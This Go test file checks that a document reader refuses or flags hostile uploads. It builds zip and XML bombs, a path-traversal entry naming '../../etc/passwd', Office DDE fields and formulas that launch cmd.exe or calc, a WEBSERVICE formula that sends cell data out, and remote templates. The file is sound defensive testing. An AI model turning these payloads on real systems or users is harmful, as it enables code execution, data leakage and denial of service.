package enclosure

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"gongkai/generator/passage"
)

// zeros is a member of many bytes that pack to nothing.
func zeros(t testing.TB, name string, n int64) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.Create(name)
	if err == nil {
		_, err = io.CopyN(f, nothing{}, n)
	}
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
	return b.Bytes()
}

type nothing struct{}

func (nothing) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// overlapping is an archive whose directory names the same bytes many times.
func overlapping(t testing.TB, times int) []byte {
	one := parts{"a.txt", strings.Repeat("x", 100000)}.pack(t)
	dir := bytes.LastIndex(one, []byte("PK\x01\x02"))
	end := bytes.LastIndex(one, []byte("PK\x05\x06"))
	out := append([]byte(nil), one[:dir]...)
	for range times {
		out = append(out, one[dir:end]...)
	}
	tail := append([]byte(nil), one[end:]...)
	binary.LittleEndian.PutUint16(tail[8:], uint16(times))
	binary.LittleEndian.PutUint16(tail[10:], uint16(times))
	binary.LittleEndian.PutUint32(tail[12:], uint32(times*(end-dir)))
	return append(out, tail...)
}

// TestHostileFiles gives the reader files made to cost much. Each is refused or noted, none
// takes more than the guard's time, and memory stays bounded.
func TestHostileFiles(t *testing.T) {
	many := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	inSheet := func(s string) []byte { return workbook(t, "", s) }
	lots := parts{}
	for i := range 6000 {
		lots = append(lots, fmt.Sprintf("%d.txt", i), "x")
	}
	loop := pdfFile("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 100000>>", "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 100000>>")
	wide := []string{"<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 100000/Kids[" + many(100000, func(int) string { return "3 0 R " }) + "]>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"}
	tests := []struct {
		name, file string
		make       func() []byte
		refuse     Refusal
		fact       passage.Fact
	}{
		{"flat bomb", "a.zip", func() []byte { return zeros(t, "a.txt", 1<<30) }, Bomb, passage.TooLarge},
		{"bomb in a bomb", "a.zip", func() []byte { return parts{"a.zip", string(zeros(t, "a.txt", 1<<28))}.pack(t) }, 0, passage.Partly},
		{"overlapping members", "a.zip", func() []byte { return overlapping(t, 3000) }, Bomb, passage.TooLarge},
		{"too many members", "a.zip", func() []byte { return lots.pack(t) }, Bomb, passage.TooLarge},
		{"a gigabyte of blanks in a sheet", "a.xlsx", func() []byte {
			var b bytes.Buffer
			w := zip.NewWriter(&b)
			for i := 0; i < 8; i += 2 {
				p := []string{"[Content_Types].xml", contentTypes("xl/workbook.xml", "spreadsheetml.sheet"), "_rels/.rels", rels("rId1", "officeDocument", "xl/workbook.xml"), "xl/_rels/workbook.xml.rels", rels("rId1", "worksheet", "worksheets/sheet1.xml"), "xl/workbook.xml", `<workbook` + namespaces + `><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>`}
				f, _ := w.Create(p[i])
				f.Write([]byte(p[i+1]))
			}
			f, _ := w.Create("xl/worksheets/sheet1.xml")
			f.Write([]byte("<worksheet><sheetData><row><c><v>"))
			io.CopyN(f, nothing{}, 1<<30)
			w.Close()
			return b.Bytes()
		}, 0, passage.TooLarge},
		{"entities that explode", "a.docx", func() []byte {
			return docx(t, "", "word/header1.xml", `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:hdr>&b;&b;</w:hdr>`)
		}, 0, passage.Damaged},
		{"a million cells", "a.xlsx", func() []byte {
			return inSheet("<sheetData>" + many(10000, func(i int) string {
				return fmt.Sprintf(`<row r="%d">`, i+1) + many(100, func(int) string { return "<c><v>1</v></c>" }) + "</row>"
			}) + "</sheetData>")
		}, 0, 0},
		{"columns beyond every sheet", "a.xlsx", func() []byte {
			return inSheet(`<cols><col min="1" max="999999999" hidden="1"/></cols><sheetData><row r="999999999"><c r="ZZZZZZZZ999999999"><v>1</v></c><c r="XFD1048576"><v>2</v></c></row></sheetData>`)
		}, 0, passage.Hidden},
		{"elements nested a million deep", "a.docx", func() []byte { return docx(t, strings.Repeat("<w:x>", 1_000_000)) }, 0, passage.Damaged},
		{"tables nested deep", "a.docx", func() []byte {
			return docx(t, strings.Repeat("<w:tbl><w:tr><w:tc>", 150)+para("x")+strings.Repeat("</w:tc></w:tr></w:tbl>", 150))
		}, 0, 0},
		{"a paragraph of 5 million signs", "a.docx", func() []byte { return docx(t, para(strings.Repeat("公开 ", 1_500_000))) }, 0, 0},
		{"a broken directory", "a.zip", func() []byte {
			b := parts{"a.txt", "x", "b.txt", "y"}.pack(t)
			return b[:len(b)-30]
		}, 0, passage.Damaged},
		{"a page tree that is a loop", "a.pdf", func() []byte { return loop }, 0, passage.Damaged},
		{"100,000 pages", "a.pdf", func() []byte { return pdfFile(wide...) }, 0, 0},
		{"a stream of objects that names itself", "a.pdf", func() []byte {
			return pdfWith("x", "", "", stream("/Type/ObjStm/N 1000000/First 5/Extends 7 0 R/Filter/FlateDecode", deflated("7 0 <</Type/ObjStm/N 1/First 0>>")))
		}, 0, 0},
		{"a stream that unpacks to a gigabyte", "a.pdf", func() []byte {
			return pdfWith("x", "", "", stream("/Type/ObjStm/N 1/First 5/Filter/FlateDecode", deflated("9 0 "+strings.Repeat(" ", 1<<27))))
		}, Bomb, passage.TooLarge},
		{"arrays nested deep", "a.pdf", func() []byte { return pdfWith("x", "", "", strings.Repeat("[", 1<<20)) }, 0, 0},
		{"dictionaries nested deep", "a.pdf", func() []byte { return pdfWith("x", "", "", strings.Repeat("<</A", 1<<20)) }, 0, 0},
		{"a string without an end, often", "a.pdf", func() []byte { return pdfWith("x", "", "", strings.Repeat("1 0 obj (", 1<<17)) }, 0, 0},
		{"a drawing nested deep", "a.svg", func() []byte { return []byte("<svg>" + strings.Repeat("<g>", 1<<20)) }, 0, passage.Damaged},
		{"names that lead out", "a.zip", func() []byte { return parts{"../../etc/passwd", "x"}.pack(t) }, Bomb, passage.Damaged},
	}
	r := New(Options{})
	defer r.Close()
	for _, tt := range tests {
		data := tt.make()
		runtime.GC()
		var before runtime.MemStats
		runtime.ReadMemStats(&before)
		var peak atomic.Uint64
		done := make(chan Report, 1)
		start := time.Now()
		go func() { done <- r.Read(tt.file, data) }()
		var rep Report
		tick := time.NewTicker(50 * time.Millisecond)
	wait:
		for {
			select {
			case rep = <-done:
				break wait
			case <-tick.C:
				var m runtime.MemStats
				runtime.ReadMemStats(&m)
				peak.Store(max(peak.Load(), m.HeapAlloc))
				if time.Since(start) > 5*time.Minute {
					t.Fatalf("%s: it hangs", tt.name)
				}
			}
		}
		tick.Stop()
		grown := int64(peak.Load()) - int64(before.HeapAlloc)
		t.Logf("%-42s %8d bytes, %6d ms, %4d MB of heap at the most; refuse %d, facts %v", tt.name, len(data), time.Since(start).Milliseconds(), max(0, grown)>>20, rep.Refuse, facts(rep))
		if grown > 1<<30 {
			t.Errorf("%s: the heap grew by %d MB", tt.name, grown>>20)
		}
		has := tt.fact == 0
		for _, f := range facts(rep) {
			has = has || f == tt.fact
		}
		if rep.Refuse != tt.refuse || !has {
			t.Errorf("%s: refuse %d (%s), notes %.300v; want refuse %d and fact %d", tt.name, rep.Refuse, rep.Is, rep.Notes, tt.refuse, tt.fact)
		}
	}
}

func TestActiveDocuments(t *testing.T) {
	r := New(Options{})
	defer r.Close()
	rel := func(kind, target string) []byte {
		return docx(t, para("x"), "word/_rels/settings.xml.rels", rels("rId1", kind, "!"+target), "word/settings.xml", `<w:settings`+namespaces+`/>`)
	}
	field := func(s string) []byte {
		return docx(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>`+s[:3]+`</w:instrText></w:r><w:r><w:instrText>`+s[3:]+`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r></w:p>`)
	}
	formula := func(f string) []byte {
		return workbook(t, "", `<sheetData><row><c r="A1"><f>`+f+`</f><v>0</v></c></row></sheetData>`)
	}
	for _, tt := range []struct {
		name, file string
		data       []byte
		fact       passage.Fact
	}{
		{"macros", "a.docx", docx(t, para("x"), "word/vbaProject.bin", "x"), passage.Macro},
		{"macros of another name", "a.xlsx", workbook(t, "", "", "xl/vbaProject.bin", "x"), passage.Macro},
		{"ActiveX", "a.docx", docx(t, para("x"), "word/activeX/activeX1.bin", "x"), passage.ActiveX},
		{"a control", "a.docx", docx(t, `<w:p><w:r><w:control r:id="rId1"/></w:r></w:p>`), passage.ActiveX},
		{"an object of the packager", "a.docx", docx(t, `<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>`), passage.ActiveX},
		{"DDE", "a.docx", field(`DDEAUTO c:\\windows\\cmd.exe`), passage.Launch},
		{"DDE in a simple field", "a.docx", docx(t, `<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>`), passage.Launch},
		{"a picture that is fetched", "a.docx", field(`INCLUDEPICTURE "http://example.com/a.png"`), passage.External},
		{"a template from elsewhere", "a.docx", rel("attachedTemplate", "https://example.com/a.dotm"), passage.External},
		{"a template on a share", "a.docx", rel("attachedTemplate", `\\host\share\a.dotm`), passage.External},
		{"a frame from elsewhere", "a.docx", rel("frame", "http://example.com/"), passage.External},
		{"an object from elsewhere", "a.docx", rel("oleObject", "mhtml:http://example.com/x!x"), passage.External},
		{"DDE in a cell", "a.xlsx", formula(`cmd|'/C calc'!A0`), passage.Launch},
		{"WEBSERVICE", "a.xlsx", formula(`_xlfn.WEBSERVICE("http://example.com/?"&amp;A2)`), passage.External},
		{"connections", "a.xlsx", workbook(t, "", "", "xl/connections.xml", "<connections><connection/></connections>"), passage.External},
		{"a DDE link", "a.xlsx", workbook(t, "", "", "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`), passage.Launch},
		{"a macro sheet", "a.xlsx", workbook(t, "", "", "xl/macrosheets/sheet1.xml", "<macrosheet/>"), passage.Macro},
		{"a program behind a button", "a.pptx", slides(t, []string{prolog + `<p:sld` + namespaces + `><a:hlinkClick action="ppaction://program" r:id="x"/></p:sld>`}), passage.Launch},
		{"Basic", "a.odt", odf(t, "text", "", "", "Basic/Standard/Module1.xml", "<x/>"), passage.Macro},
		{"an event", "a.odt", odf(t, "text", "", `<office:event-listeners><script:event-listener xmlns:script="s" script:language="ooo:script"/></office:event-listeners>`), passage.Macro},
		{"DDE", "a.ods", odf(t, "spreadsheet", "", `<table:table table:name="a"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/C&quot;;&quot;x&quot;)"/></table:table-row></table:table>`), passage.Launch},
		{"a section from elsewhere", "a.odt", odf(t, "text", "", `<text:section><text:section-source href="http://example.com/a.odt"/></text:section>`), passage.External},
	} {
		rep := r.Read(tt.file, tt.data)
		has := false
		for _, f := range facts(rep) {
			has = has || f == tt.fact
		}
		if rep.Refuse != Active || !has {
			t.Errorf("%s, %s: refuse %d, notes %+v; want fact %d", tt.file, tt.name, rep.Refuse, rep.Notes, tt.fact)
		}
	}
	for name, data := range map[string][]byte{
		"a link":                     docx(t, para("x"), "word/_rels/document.xml.rels", rels("rId1", "hyperlink", "!https://www.gov.cn/")),
		"a template on the own disk": docx(t, para("x"), "word/_rels/settings.xml.rels", rels("rId1", "attachedTemplate", "!file:///C:\\Users\\x\\Normal.dotm")),
		"a formula of mathematics":   docx(t, `<w:p><w:r><w:object><o:OLEObject ProgID="Equation.3"/></w:object></w:r></w:p>`),
		"a number of a page":         docx(t, `<w:p><w:fldSimple w:instr=" PAGE "/></w:p>`),
	} {
		if rep := r.Read("a.docx", data); rep.Refuse != 0 || len(rep.Notes) > 0 {
			t.Errorf("%s: refuse %d, notes %+v", name, rep.Refuse, rep.Notes)
		}
	}
}

func TestWhatMayBeAttached(t *testing.T) {
	r := New(Options{})
	defer r.Close()
	doc := docx(t, para("x"))
	macro := parts{"[Content_Types].xml", `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`}.pack(t)
	for _, tt := range []struct {
		name   string
		data   []byte
		refuse Refusal
		is     string
	}{
		{"a.docx", doc, 0, ""}, {"A.DOCX", doc, 0, ""}, {"a.xlsx", doc, Disguised, "docx"}, {"a.zip", doc, Disguised, "docx"}, {"a", doc, Disguised, "docx"},
		{"a.docx", macro, NotAllowed, "docm"}, {"a.docm", macro, NotAllowed, "docm"},
		{"a.jpg", png(), Disguised, "png"}, {"a.png", png(), 0, ""}, {"a.jpeg", jpeg(), 0, ""},
		{"a.pdf", []byte("一些文字"), Disguised, "txt"}, {"a.txt", []byte("一些文字"), 0, ""}, {"a.csv", []byte("一,二"), 0, ""},
		{"a.exe", []byte("MZ\x90\x00" + strings.Repeat("\x00", 200)), NotAllowed, "exe"}, {"a.pdf", []byte("MZ\x90\x00" + strings.Repeat("\x00", 200)), NotAllowed, "exe"},
		{"a.js", []byte("alert(1)"), NotAllowed, "js"}, {"a.vbs", []byte("MsgBox 1"), NotAllowed, "vbs"}, {"a.bat", []byte("dir"), NotAllowed, "bat"}, {"a.ps1", []byte("dir"), NotAllowed, "ps1"},
		{"a.txt", []byte("#!/bin/sh\nrm x"), NotAllowed, "script"}, {"a.html", []byte("<html><p>x"), NotAllowed, "html"}, {"a.txt", []byte("<html><script>x</script>"), NotAllowed, "html"},
		{"a.rar", []byte("Rar!\x1A\x07\x01\x00xxxxxxxx"), NotAllowed, "rar"}, {"a.7z", []byte("7z\xBC\xAF\x27\x1C\x00\x04"), NotAllowed, "7z"},
		{"a.lnk", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"), NotAllowed, "lnk"},
		{"a.jar", parts{"META-INF/MANIFEST.MF", "x"}.pack(t), NotAllowed, "jar"}, {"a.rtf", []byte(`{\rtf1 x}`), NotAllowed, "rtf"},
		{"a.json", []byte(`{"a":1}`), 0, ""}, {"a.json", []byte(`{"a":`), Disguised, "txt"}, {"a.xml", []byte("<?xml version=\"1.0\"?><a/>"), 0, ""},
		{"a.ofd", ofd(t, ""), 0, ""}, {"a.odt", odf(t, "text", "", ""), 0, ""}, {"a.bin", []byte("\x01\x02\x03\x04"), NotAllowed, ""},
		{"a.zip", parts{"setup.exe", "MZ\x90\x00" + strings.Repeat("\x00", 200)}.pack(t), NotAllowed, "exe"},
	} {
		if rep := r.Read(tt.name, tt.data); rep.Refuse != tt.refuse || tt.refuse != 0 && rep.Is != tt.is {
			t.Errorf("%s %.20q: refuse %d %q, want %d %q", tt.name, tt.data, rep.Refuse, rep.Is, tt.refuse, tt.is)
		}
	}
}
